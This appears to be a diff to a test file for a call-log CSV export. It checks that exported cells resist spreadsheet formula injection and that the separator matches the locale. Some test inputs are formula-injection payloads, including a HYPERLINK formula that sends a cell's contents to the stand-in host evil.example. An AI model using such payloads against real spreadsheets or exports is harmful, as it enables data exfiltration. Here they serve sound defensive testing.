@@ -1,16 +1,25 @@
 import fc from 'fast-check';
 import { afterAll, beforeAll, describe, expect, it, test, vi } from 'vitest';
-import { CSV_COLUMNS, toCsv, type CsvColumn, type CsvLabels } from '../../../src/core/log/csv';
+import {
+  CSV_COLUMNS,
+  getCsvSeparator,
+  toCsv,
+  type CsvColumn,
+  type CsvFormat,
+} from '../../../src/core/log/csv';
+import { formatPhoneNumber } from '../../../src/core/calls/phone';
 import type { LogEntry } from '../../../src/core/log/entry';
 import { aMiss, anEntry } from './log-entry-fixture';
 
-const words: CsvLabels = {
+const words: CsvFormat = {
   columns: Object.fromEntries(CSV_COLUMNS.map((name) => [name, `«${name}»`])) as Record<
     CsvColumn,
     string
   >,
   outcome: ({ kind }) => `outcome ${kind}`,
   direction: (direction) => `direction ${direction}`,
+  formatNumber: (number) => formatPhoneNumber(number, 'US'),
+  separator: ',',
 };
 
 beforeAll(() => {
@@ -76,7 +85,7 @@ describe('the export', () => {
       outcome: 'outcome answered',
       answeredBy: 'Ada Lovelace',
       name: 'Grace Hopper',
-      number: "'+12025550147",
+      number: '\u200E+1 202-555-0147',
       customer: 'Northside Group › Bright Dental',
       endpoint: 'Front desk',
       channel: 'Voice',
@@ -141,12 +150,73 @@ describe('the export', () => {
     );
   });
 
-  it('yields no formula in a spreadsheet that separates cells otherwise', () => {
-    fc.assert(
-      fc.property(hostile, (name) => {
-        const text = bare(toCsv([anEntry({ party: { name } })], words));
-        for (const cell of text.split(/[;\t\r\n]/)) expect(cell).not.toMatch(/^\s*[=+\-@]/);
-      }),
-    );
+  test.each([',', ';'] as const)(
+    'yields no formula for readers with another separator than %s',
+    (separator) => {
+      fc.assert(
+        fc.property(hostile, hostile, (name, number) => {
+          const text = bare(toCsv([anEntry({ party: { name, number } })], { ...words, separator }));
+          // Such a reader ends a cell at its own separators, and removes quotation marks around it.
+          const others = separator === ',' ? /[;\t\r\n]/ : /[,\t\r\n]/;
+          for (const cell of text.split(others)) {
+            expect(cell).not.toMatch(/^["\s]*[=+\-@]/);
+          }
+        }),
+      );
+    },
+  );
+
+  test.each(['x;"=1+1;y', 'x;"=HYPERLINK("http://evil.example/"&A1);y', 'x,""=1', 'x\t"@SUM(A1)'])(
+    'yields no formula behind a quotation mark: %s',
+    (name) => {
+      const text = bare(toCsv([anEntry({ party: { name } })], words));
+      for (const cell of text.split(/[;\t\r\n]/)) expect(cell).not.toMatch(/^["\s]*[=+\-@]/);
+    },
+  );
+
+  it.each(['+12025550147', '1001', '0042', '+14155550100;ext=12', '(202) 555-0147'])(
+    'keeps the number %s as text without an apostrophe',
+    (number) => {
+      const cell = rowOf(anEntry({ party: { number } }))['number'] ?? '';
+      expect(cell).toBe(`\u200E${formatPhoneNumber(number, 'US')}`);
+      expect(Number.isNaN(Number(cell))).toBe(true);
+    },
+  );
+
+  it('defuses an address that is no number', () => {
+    expect(rowOf(anEntry({ party: { number: '=1+1' } }))['number']).toBe("'=1+1");
+    expect(rowOf(anEntry({ party: { number: '+1;=A2' } }))['number']).toBe("'+1;'=A2");
   });
+
+  it('separates by semicolons where it is told so', () => {
+    const text = bare(
+      toCsv([anEntry({ party: { name: 'Hopper; Grace' } })], { ...words, separator: ';' }),
+    );
+    const rows = read(text, ';');
+    expect(rows.map((row) => row.length)).toEqual([CSV_COLUMNS.length, CSV_COLUMNS.length]);
+    expect(rows[1]).toContain('Hopper; Grace');
+  });
+});
+
+test.each([
+  ['en-US', ','],
+  ['en-GB', ','],
+  ['es-MX', ','],
+  ['ja-JP', ','],
+  ['he-IL', ','],
+  ['de-DE', ';'],
+  ['fr-FR', ';'],
+  ['fr-CA', ';'],
+  ['pt-BR', ';'],
+  ['es-ES', ';'],
+  ['it-IT', ';'],
+  ['nl-NL', ';'],
+  ['de-CH', ';'],
+  ['it-CH', ';'],
+  ['de', ';'],
+  ['ar-EG', ';'],
+  ['ar-AE', ';'],
+  ['en-ZA', ';'],
+])('spreadsheets in %s separate cells by %s', (locale, separator) => {
+  expect(getCsvSeparator(locale)).toBe(separator);
 });
